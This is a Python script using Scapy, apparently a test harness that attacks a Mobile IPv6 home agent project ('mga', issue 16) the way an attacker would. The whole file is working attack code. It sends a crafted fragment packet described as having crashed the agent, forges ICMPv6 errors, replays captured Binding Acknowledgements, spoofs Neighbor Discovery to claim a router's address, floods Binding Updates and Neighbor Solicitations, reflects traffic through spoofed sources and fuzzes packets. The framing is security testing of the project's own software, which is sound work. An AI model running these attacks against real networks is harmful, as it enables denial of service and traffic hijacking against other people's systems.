#!/usr/bin/python3
"""Attacks on mga's roles, as an attacker would send them (issue 16): Scapy builds the packets, one reused Scapy
L2 socket sends them (Ethernet frames to a next hop whose MAC is given), paced to a target rate. Each subcommand
prints one JSON line: what it sent (packets, octets), for how long, and the rate it reached.

Run with Debian's /usr/bin/python3 (python3-scapy), as root, inside the namespace whose interface it uses."""
import argparse
import json
import os
import random
import sys
import time

from scapy.config import conf
from scapy.layers.inet import UDP
from scapy.layers.inet6 import (IPv6, IPv6ExtHdrFragment, IPv6ExtHdrDestOpt, IPv6ExtHdrRouting, HAO,
                                ICMPv6DestUnreach, ICMPv6ND_NS, ICMPv6ND_NA, ICMPv6NDOptSrcLLAddr,
                                ICMPv6NDOptDstLLAddr, ICMPv6EchoRequest, ICMPv6PacketTooBig, MIP6MH_BU, MIP6MH_BA,
                                MIP6MH_BRR, MIP6MH_HoTI, MIP6MH_CoTI, MIP6OptAltCoA, MIP6OptReplayProtection,
                                MIP6OptMsgAuth, in6_getnsma, in6_getnsmac)
from scapy.layers.l2 import Ether
from scapy.packet import Raw
from scapy.sendrecv import AsyncSniffer
from scapy.utils import inet_pton
import socket

conf.verb = 0


def blast(args, frames, count=None, seconds=None, rate=None):
    """Sends the frames round-robin through one L2 socket, paced in 1 ms slices to `rate` packets/s (None: as
    fast as the socket goes), until `count` packets or `seconds` have gone. Returns what was sent."""
    raw = [bytes(f) for f in frames]
    s = conf.L2socket(iface=args.iface)
    sent = 0
    octets = 0
    t0 = time.monotonic()
    n = len(raw)
    try:
        while True:
            now = time.monotonic() - t0
            if count is not None and sent >= count or seconds is not None and now >= seconds:
                break
            due = int(now * rate) + 1 if rate else sent + 256
            if count is not None:
                due = min(due, count)
            if sent >= due:
                time.sleep(0.0005)
                continue
            while sent < due:
                b = raw[sent % n]
                s.send(b)
                octets += len(b)
                sent += 1
    finally:
        s.close()
    took = time.monotonic() - t0
    return {"packets": sent, "octets": octets, "seconds": round(took, 3),
            "rate": round(sent / took) if took > 0 else sent}


def eth(args, src_mac=None):
    return Ether(src=src_mac or args.src_mac, dst=args.dst_mac)


def rand_global(prefix_high=None):
    """A random global unicast address (2001:db8::/32 with random bits), or one in a given /64 text."""
    if prefix_high:
        return prefix_high + ":%x:%x:%x:%x" % tuple(random.getrandbits(16) for _ in range(4))
    return "2001:db8:%x:%x:%x:%x:%x:%x" % tuple(random.getrandbits(16) for _ in range(6))


def ntp_now():
    t = time.time() + 2208988800
    return (int(t) << 32) | int((t % 1) * (1 << 32))


def bu(src, agent, anycast, spi, seq, mac=None):
    """A Binding Update as a responder builds it (HAO = the anycast address, Alternate CoA, replay protection,
    RFC 4285 MN-HA authentication last) with a MAC that is not the key holder's."""
    opts = [MIP6OptAltCoA(acoa=src), MIP6OptReplayProtection(timestamp=ntp_now()),
            MIP6OptMsgAuth(mspi=spi, authdata=mac or os.urandom(12))]
    return (IPv6(src=src, dst=agent) / IPv6ExtHdrDestOpt(options=[HAO(hoa=anycast)])
            / MIP6MH_BU(seq=seq, flags=0x30, mhtime=75, options=opts))


def out(d):
    print(json.dumps(d))
    sys.stdout.flush()


def cmd_frag(args):
    # the 56-octet packet that killed the agent: a Fragment header (M=1) whose Next Header says Mobility Header
    p = eth(args) / IPv6(src=args.src, dst=args.dst) / IPv6ExtHdrFragment(nh=135, m=1, offset=0, id=0x1234) / Raw(
        b"\x3b\x00\x05\x00\x00\x00\x00\x00")
    out(blast(args, [p], count=args.count))


def cmd_tunnel_error(args):
    # forged Destination Unreachable quoting a tunnel packet agent -> care-of (Next Header 41), inner -> anycast;
    # the attacker cannot know the outer Flow Label and guesses one
    frames = []
    for _ in range(args.rounds):
        for coa in args.coa:
            quoted = (IPv6(src=args.agent, dst=coa, nh=41, fl=random.getrandbits(20))
                      / IPv6(src=args.client, dst=args.anycast) / UDP(sport=40000, dport=5353) / Raw(b"q"))
            frames.append(eth(args) / IPv6(src=args.src, dst=args.agent) / ICMPv6DestUnreach(code=3) / quoted)
    r = blast(args, frames, count=len(frames), rate=1.0 / args.gap if args.gap > 0 else None)
    r["rounds"] = args.rounds
    out(r)


def cmd_oracle(args):
    # 1. a BU with the responder's SPI and a wrong MAC: the agent's answer (a BA 146) is captured
    sniffer = AsyncSniffer(iface=args.iface, filter="ip6 and dst host " + args.src, store=True)
    sniffer.start()
    time.sleep(0.5)
    s = conf.L2socket(iface=args.iface)
    s.send(bytes(eth(args) / bu(args.src, args.agent, args.anycast, args.spi, random.getrandbits(16))))
    time.sleep(1.0)
    got = sniffer.stop()
    bas = [p for p in got if p.haslayer(MIP6MH_BA)]
    captured = bas[0][MIP6MH_BA] if bas else None
    sent = 1
    # 2. force the responder to re-register (an unauthenticated Binding Refresh Request "from" the agent), then
    # 3. inject the captured BA "from" the agent, again and again
    for _ in range(args.rounds):
        brr = (eth(args) / IPv6(src=args.agent, dst=args.coa) / IPv6ExtHdrRouting(type=2, addresses=[args.anycast],
                                                                                 segleft=1) / MIP6MH_BRR())
        s.send(bytes(brr))
        sent += 1
        if captured is not None:
            ba = (eth(args) / IPv6(src=args.agent, dst=args.coa)
                  / IPv6ExtHdrRouting(type=2, addresses=[args.anycast], segleft=1) / captured.copy())
            for _ in range(3):
                s.send(bytes(ba))
                sent += 1
        time.sleep(args.gap)
    s.close()
    out({"packets": sent, "captured_ba_status": captured.status if captured is not None else None,
         "rounds": args.rounds})


def cmd_bu_flood(args):
    frames = []
    for i in range(1024):
        spi = args.spi if args.spi else random.randrange(1 << 20, 1 << 32)
        frames.append(eth(args) / bu(rand_global(), args.agent, args.anycast, spi, random.getrandbits(16)))
    out(blast(args, frames, seconds=args.seconds, rate=args.rate))


def cmd_hoti_flood(args):
    frames = []
    for i in range(1024):
        dst = args.dst[i % len(args.dst)]
        src = rand_global()
        if i % 2 == 0:
            m = MIP6MH_HoTI(cookie=os.urandom(8))
            frames.append(eth(args) / IPv6(src=src, dst=dst) / IPv6ExtHdrDestOpt(options=[HAO(hoa=rand_global())])
                          / m if i % 4 == 0 else eth(args) / IPv6(src=src, dst=dst) / m)
        else:
            frames.append(eth(args) / IPv6(src=src, dst=dst) / MIP6MH_CoTI(cookie=os.urandom(8)))
    out(blast(args, frames, seconds=args.seconds, rate=args.rate))


def cmd_nd(args):
    """On-link Neighbor Discovery forgeries, repeated every `gap` seconds for `seconds`."""
    mac = args.src_mac
    frames = []
    if args.mode == "ns-router":
        # an NS "from" the router's address carrying the attacker's link-layer address
        frames.append(Ether(src=mac, dst=in6_getnsmac(inet_pton(socket.AF_INET6, in6_getnsma_text(args.target))))
                      / IPv6(src=args.claim, dst=in6_getnsma_text(args.target), hlim=255)
                      / ICMPv6ND_NS(tgt=args.target) / ICMPv6NDOptSrcLLAddr(lladdr=mac))
    elif args.mode in ("na-router", "na-claim"):
        # unsolicited NAs for the router's address (S=0, O=0 and O=1), or claims on the victim's own addresses
        for o in (0, 1):
            frames.append(Ether(src=mac, dst="33:33:00:00:00:01") / IPv6(src=args.claim, dst="ff02::1", hlim=255)
                          / ICMPv6ND_NA(tgt=args.claim, R=1, S=0, O=o) / ICMPv6NDOptDstLLAddr(lladdr=mac))
    elif args.mode == "na-claim-to":
        # the same claim sent to one node alone (the router: --target, at --dst-mac), which a switched link
        # delivers to that node only
        frames.append(Ether(src=mac, dst=args.dst_mac) / IPv6(src=args.claim, dst=args.target, hlim=255)
                      / ICMPv6ND_NA(tgt=args.claim, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=mac))
    r = blast(args, frames, seconds=args.seconds, rate=len(frames) / args.gap)
    r["mode"] = args.mode
    out(r)


def in6_getnsma_text(a):
    return socket.inet_ntop(socket.AF_INET6, in6_getnsma(inet_pton(socket.AF_INET6, a)))


def cmd_ns_flood(args):
    frames = []
    for i in range(4096):
        mac = "02:%02x:%02x:%02x:%02x:%02x" % tuple(random.getrandbits(8) for _ in range(5))
        src = rand_global(args.prefix)
        frames.append(Ether(src=mac, dst=in6_getnsmac(inet_pton(socket.AF_INET6, in6_getnsma_text(args.target))))
                      / IPv6(src=src, dst=in6_getnsma_text(args.target), hlim=255)
                      / ICMPv6ND_NS(tgt=args.target) / ICMPv6NDOptSrcLLAddr(lladdr=mac))
    out(blast(args, frames, seconds=args.seconds, rate=args.rate))


def cmd_relay(args):
    # reverse-tunnel packets with a forged outer source (a registered care-of address), inner source the anycast
    # address, to destinations the agent must never relay to; then to one it may (the victim)
    frames = []
    for d in args.forbidden:
        inner = IPv6(src=args.anycast, dst=d) / UDP(sport=5353, dport=9) / Raw(b"relay")
        frames.extend([eth(args) / IPv6(src=args.coa, dst=args.agent) / inner] * args.count)
    r = blast(args, frames, count=len(frames), rate=args.rate)
    r["destinations"] = len(args.forbidden)
    out(r)


def cmd_reflect(args):
    # queries to the anycast address "from" many spoofed sources in the victim's /64: each could draw a route
    # optimisation attempt (HoTI through the agent, CoTI direct) towards the victim
    frames = [eth(args) / IPv6(src=rand_global(args.victim_prefix), dst=args.anycast) / UDP(sport=40000, dport=5353)
              / Raw(b"x") for _ in range(args.sources)]
    out(blast(args, frames, count=args.count, rate=args.rate))


def mutate(b, rng):
    """Mutates a packet past its fixed IPv6 header (which must stay routable): bit flips, octet overwrites,
    truncation, extension; keeps the Payload Length consistent with what is sent now and then, not always."""
    b = bytearray(b)
    hdr = 14 + 40
    for _ in range(rng.randint(1, 6)):
        k = rng.random()
        if k < 0.4 and len(b) > hdr:
            i = rng.randrange(hdr, len(b))
            b[i] ^= 1 << rng.randrange(8)
        elif k < 0.6 and len(b) > hdr:
            b[rng.randrange(hdr, len(b))] = rng.getrandbits(8)
        elif k < 0.7:
            b[14 + 6] = rng.choice([0, 43, 44, 50, 51, 58, 59, 60, 135, 41, 17, 6, rng.getrandbits(8)])
        elif k < 0.85 and len(b) > hdr + 1:
            del b[rng.randrange(hdr, len(b)):]
        else:
            b.extend(os.urandom(rng.randint(1, 64)))
    if rng.random() < 0.8:
        plen = len(b) - hdr
        b[14 + 4] = (plen >> 8) & 0xff
        b[14 + 5] = plen & 0xff
    return bytes(b)


def cmd_storm(args):
    rng = random.Random(args.seed)
    seeds = []
    for dst in args.dst:
        src = rand_global()
        seeds += [
            eth(args) / bu(src, dst, args.anycast, 1001, 7),
            eth(args) / IPv6(src=src, dst=dst) / IPv6ExtHdrRouting(type=2, addresses=[args.anycast], segleft=1)
            / MIP6MH_BA(status=146, seq=7),
            eth(args) / IPv6(src=src, dst=dst) / MIP6MH_BRR(),
            eth(args) / IPv6(src=src, dst=dst) / MIP6MH_HoTI(cookie=b"12345678"),
            eth(args) / IPv6(src=src, dst=dst) / MIP6MH_CoTI(cookie=b"12345678"),
            eth(args) / IPv6(src=src, dst=dst) / IPv6(src=args.anycast, dst=rand_global()) / UDP(dport=53),
            eth(args) / IPv6(src=src, dst=dst) / ICMPv6DestUnreach() / IPv6(src=dst, dst=rand_global(), nh=41)
            / IPv6(src=src, dst=args.anycast),
            eth(args) / IPv6(src=src, dst=dst) / ICMPv6PacketTooBig(mtu=1280) / IPv6(src=dst, dst=src) / UDP(),
            eth(args) / IPv6(src=src, dst=dst) / IPv6ExtHdrFragment(nh=135, m=1) / Raw(b"\x3b\x00\x05\x00" * 4),
            eth(args) / IPv6(src=src, dst=dst) / UDP(sport=1, dport=5353) / Raw(b"storm"),
            eth(args) / IPv6(src=src, dst=dst) / ICMPv6EchoRequest(data=b"x" * 16),
        ]
    raw = [bytes(p) for p in seeds]
    frames = [Raw(mutate(raw[i % len(raw)], rng)) for i in range(args.variants)]
    r = blast(args, frames, count=args.count, rate=args.rate)
    r["variants"] = args.variants
    out(r)


def cmd_burst(args):
    # bursts of UDP queries to the anycast address from random sources of a /64, each burst as fast as one L2
    # socket sends, a pause between bursts: what a capture ring that holds too few frames loses
    prefix = args.sources.rstrip(":")
    frames = []
    for i in range(args.size):
        src = "%s:%x:%x:%x:%x" % (prefix, random.getrandbits(16), random.getrandbits(16), random.getrandbits(16),
                                  random.getrandbits(16) | 1)
        frames.append(bytes(eth(args) / IPv6(src=src, dst=args.anycast, hlim=63)
                            / UDP(sport=40000 + i, dport=7) / Raw(b"burst %04d" % i)))
    s = conf.L2socket(iface=args.iface)
    sent = 0
    t0 = time.monotonic()
    worst = 0.0
    try:
        for _ in range(args.bursts):
            b0 = time.monotonic()
            for f in frames:
                s.send(f)
                sent += 1
            worst = max(worst, time.monotonic() - b0)
            time.sleep(args.gap_ms / 1000.0)
    finally:
        s.close()
    out({"packets": sent, "bursts": args.bursts, "size": args.size, "seconds": round(time.monotonic() - t0, 3),
         "slowest_burst_ms": round(worst * 1000, 2)})


def cmd_raw(args):
    # frames built elsewhere (hex, one IPv6 packet a line), behind an Ethernet header
    frames = []
    with open(args.file) as f:
        for line in f:
            line = line.strip()
            if line:
                frames.append(Ether(src=args.src_mac, dst=args.dst_mac, type=0x86dd) / Raw(bytes.fromhex(line)))
    out(blast(args, frames, count=args.count or len(frames), rate=args.rate))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", required=True)
    ap.add_argument("--dst-mac", default="ff:ff:ff:ff:ff:ff")
    ap.add_argument("--src-mac", default=None)
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("frag"); p.add_argument("--src"); p.add_argument("--dst"); p.add_argument("--count", type=int, default=1)
    p = sub.add_parser("tunnel-error"); p.add_argument("--src"); p.add_argument("--agent"); p.add_argument("--anycast")
    p.add_argument("--client"); p.add_argument("--coa", nargs="+"); p.add_argument("--rounds", type=int, default=1)
    p.add_argument("--gap", type=float, default=0.05)
    p = sub.add_parser("oracle"); p.add_argument("--src"); p.add_argument("--agent"); p.add_argument("--anycast")
    p.add_argument("--coa"); p.add_argument("--spi", type=int); p.add_argument("--rounds", type=int, default=10)
    p.add_argument("--gap", type=float, default=0.3)
    p = sub.add_parser("bu-flood"); p.add_argument("--agent"); p.add_argument("--anycast")
    p.add_argument("--spi", type=int, default=0); p.add_argument("--rate", type=float, default=20000)
    p.add_argument("--seconds", type=float, default=3)
    p = sub.add_parser("hoti-flood"); p.add_argument("--dst", nargs="+"); p.add_argument("--rate", type=float, default=20000)
    p.add_argument("--seconds", type=float, default=3)
    p = sub.add_parser("nd"); p.add_argument("--mode"); p.add_argument("--target"); p.add_argument("--claim")
    p.add_argument("--seconds", type=float, default=5); p.add_argument("--gap", type=float, default=0.1)
    p = sub.add_parser("ns-flood"); p.add_argument("--target"); p.add_argument("--prefix")
    p.add_argument("--rate", type=float, default=20000); p.add_argument("--seconds", type=float, default=3)
    p = sub.add_parser("relay"); p.add_argument("--agent"); p.add_argument("--anycast"); p.add_argument("--coa")
    p.add_argument("--forbidden", nargs="+"); p.add_argument("--count", type=int, default=100)
    p.add_argument("--rate", type=float, default=1000)
    p = sub.add_parser("reflect"); p.add_argument("--anycast"); p.add_argument("--victim-prefix")
    p.add_argument("--sources", type=int, default=2400); p.add_argument("--count", type=int, default=2400)
    p.add_argument("--rate", type=float, default=2000)
    p = sub.add_parser("storm"); p.add_argument("--dst", nargs="+"); p.add_argument("--anycast")
    p.add_argument("--variants", type=int, default=4096); p.add_argument("--count", type=int, default=100000)
    p.add_argument("--rate", type=float, default=None); p.add_argument("--seed", type=int, default=16)
    p = sub.add_parser("burst"); p.add_argument("--anycast"); p.add_argument("--sources")
    p.add_argument("--bursts", type=int, default=10); p.add_argument("--size", type=int, default=100)
    p.add_argument("--gap-ms", type=float, default=200)
    p = sub.add_parser("raw"); p.add_argument("--file"); p.add_argument("--count", type=int, default=0)
    p.add_argument("--rate", type=float, default=1000)
    args = ap.parse_args()
    if args.src_mac is None:
        with open("/sys/class/net/%s/address" % args.iface) as f:
            args.src_mac = f.read().strip()
    globals()["cmd_" + args.cmd.replace("-", "_")](args)


if __name__ == "__main__":
    main()
